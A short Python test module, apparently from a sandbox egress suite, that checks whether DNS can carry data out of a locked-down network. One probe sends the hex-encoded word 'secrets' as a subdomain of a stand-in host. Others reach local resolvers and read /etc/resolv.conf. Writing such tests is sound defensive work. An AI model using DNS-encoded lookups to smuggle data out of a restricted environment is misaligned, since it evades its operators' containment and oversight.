"""
Looks up names: DNS carries data out of networks that let nothing else through.

Must: blocked
"""

import socket


def tries(host):
    yield "a name", lambda: socket.getaddrinfo("mecapy.example", 443)
    yield "a name made of data", lambda: socket.gethostbyname("73656372657473.mecapy.example")
    for address in ("127.0.0.53", "192.0.2.53", "127.0.0.11"):
        yield f"a resolver at {address}", lambda: connect(socket.AF_INET, (address, 53), socket.SOCK_DGRAM)
    yield "the host's resolvers", lambda: read("/etc/resolv.conf")
    yield "the name service's daemon", lambda: connect(socket.AF_UNIX, "/run/nscd/socket")
    yield "systemd's resolver", lambda: connect(socket.AF_UNIX, "/run/systemd/resolve/io.systemd.Resolve")
